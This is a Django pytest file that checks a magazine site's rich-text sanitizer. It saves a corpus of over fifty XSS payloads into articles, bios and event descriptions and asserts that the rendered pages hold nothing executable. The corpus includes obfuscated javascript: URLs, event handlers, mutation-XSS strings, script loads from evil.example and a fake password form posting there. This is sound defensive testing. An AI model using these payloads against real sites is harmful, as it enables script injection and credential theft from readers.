"""Nothing an editor pastes can attack a reader.

Each payload is saved as rich text the way the admin saves it, then the public page is parsed
with an HTML5 parser — as a browser would — and searched for anything that runs, loads or
submits.
"""

import json
import re

import html5lib
import pytest

from tests import factories as make

pytestmark = pytest.mark.django_db

PAYLOADS = [
    # Script elements, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("//evil.example")</script>',
    "<<script>alert(1)//<</script>",
    # Event handlers on ordinary and exotic elements
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.jpg" ONERROR="alert(1)">',
    "<p onclick=alert(1)>点我</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    "<input autofocus onfocus=alert(1)>",
    '<a href="https://example.org" onmouseover="alert(1)">链接</a>',
    "<div/onmouseover='alert(1)'>悬停</div>",
    '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>格</td></tr></table>',
    # javascript:, vbscript: and data: URLs, with obfuscation
    '<a href="javascript:alert(1)">链接</a>',
    '<a href="JaVaScRiPt:alert(1)">链接</a>',
    '<a href="jav&#x09;ascript:alert(1)">链接</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">链接</a>',
    '<a href=" javascript:alert(1)">链接</a>',
    '<a href="vbscript:msgbox(1)">链接</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="javascript:alert(1) 1x">',
    # Frames, plugins and forms
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="//evil.example/x.swf">',
    '<form action="https://evil.example"><input name=密码><button>登录</button></form>',
    '<button formaction="javascript:alert(1)">按钮</button>',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    # Document-level hijacks
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # CSS
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">样式</p>',
    '<p style="width:expression(alert(1))">样式</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">遮罩</p>',
    '<div style="behavior:url(x.htc)">样式</div>',
    # SVG and MathML namespace tricks
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>点</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    # Parser differentials (mutation XSS)
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<p title="a"onmouseover=alert(1)//">引号</p>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<a href="https://example.org"><img src=x onerror="alert(1)"></a>',
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "background", "poster", "xlink:href"}
FORBIDDEN_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
    "textarea", "select", "style", "link", "meta", "base", "svg", "math", "template", "noscript",
}  # fmt: skip
ALLOWED_CSS = {"text-align", "width"}


def local(tag):
    return tag.rsplit("}", 1)[-1].lower() if isinstance(tag, str) else ""


def is_json_data(script):
    """A ``<script type="application/ld+json">`` holding nothing but JSON: data the browser never runs."""
    if script.get("type") != "application/ld+json":
        return False
    try:
        json.loads(script.text or "")
    except ValueError:
        return False
    return True


def dangers(page_html):
    """What in a parsed page could run script or pull in outside content."""
    document = html5lib.parse(page_html, namespaceHTMLElements=False)
    found = []
    for element in document.iter():
        name = local(element.tag)
        if name == "script" and not is_json_data(element):
            found.append("script element")
        for attribute, value in element.attrib.items():
            attribute = local(attribute)
            if attribute.startswith("on"):
                found.append(f"{attribute} on <{name}>")
            squeezed = re.sub(r"[\x00-\x20]+", "", value).lower()
            if attribute in URL_ATTRIBUTES and squeezed.startswith(("javascript:", "vbscript:", "data:")):
                found.append(f"{attribute}={value!r} on <{name}>")
            if attribute == "style":
                properties = {rule.split(":")[0].strip().lower() for rule in value.split(";") if rule.strip()}
                if properties - ALLOWED_CSS:
                    found.append(f"style {value!r} on <{name}>")
    main = document.find(".//main")
    found += [f"<{local(e.tag)}> in main" for e in main.iter() if local(e.tag) in FORBIDDEN_ELEMENTS]
    return found


@pytest.fixture
def issue():
    return make.issue()


def test_the_corpus_is_large_and_varied():
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_article_body_cannot_attack_a_reader(client, issue, payload):
    article = make.article(issue, body=f"<p>正文开头。</p>{payload}<p>正文结尾。</p>")

    response = client.get(article.get_absolute_url())

    assert response.status_code == 200
    assert dangers(response.content.decode()) == []
    assert "正文结尾。" in response.content.decode()


@pytest.mark.parametrize("payload", PAYLOADS[::4])
def test_person_bio_cannot_attack_a_reader(client, issue, payload):
    person = make.person(name="王晓", bio=f"<p>简介。</p>{payload}")
    make.link(make.article(issue), person)

    response = client.get(person.get_absolute_url())

    assert response.status_code == 200
    assert dangers(response.content.decode()) == []


@pytest.mark.parametrize("payload", PAYLOADS[1::4])
def test_event_description_cannot_attack_a_reader(client, payload):
    event = make.event(description=f"<p>活动介绍。</p>{payload}")

    response = client.get(event.get_absolute_url())

    assert response.status_code == 200
    assert dangers(response.content.decode()) == []


def test_what_ckeditor_produces_for_a_magazine_survives(client, issue):
    body = (
        '<h2>一、小标题</h2><p style="text-align:center;">居中的段落，<strong>加粗</strong>和<i>斜体</i>。</p>'
        "<blockquote><p>引文。</p></blockquote><ul><li>要点</li></ul>"
        '<figure class="image image_resized" style="width:50%;"><img src="/media/editor/2026/11/a.jpg" alt="图" '
        'width="800" height="600"><figcaption>图片说明</figcaption></figure>'
        '<figure class="table"><table><tbody><tr><td colspan="2">表格</td></tr></tbody></table></figure>'
        '<p><a href="https://www.example.org/">外部链接</a></p><hr>'
    )
    article = make.article(issue, body=body)

    saved = type(article).objects.get(pk=article.pk).body

    for kept in (
        "<h2>一、小标题</h2>",
        'style="text-align:center"',
        "<strong>加粗</strong>",
        "<blockquote>",
        '<figure class="image image_resized" style="width:50%">',
        "<figcaption>图片说明</figcaption>",
        '<td colspan="2">表格</td>',
        '<a href="https://www.example.org/" rel="noopener noreferrer">外部链接</a>',
        "<hr>",
    ):
        assert kept in saved
    assert dangers(client.get(article.get_absolute_url()).content.decode()) == []
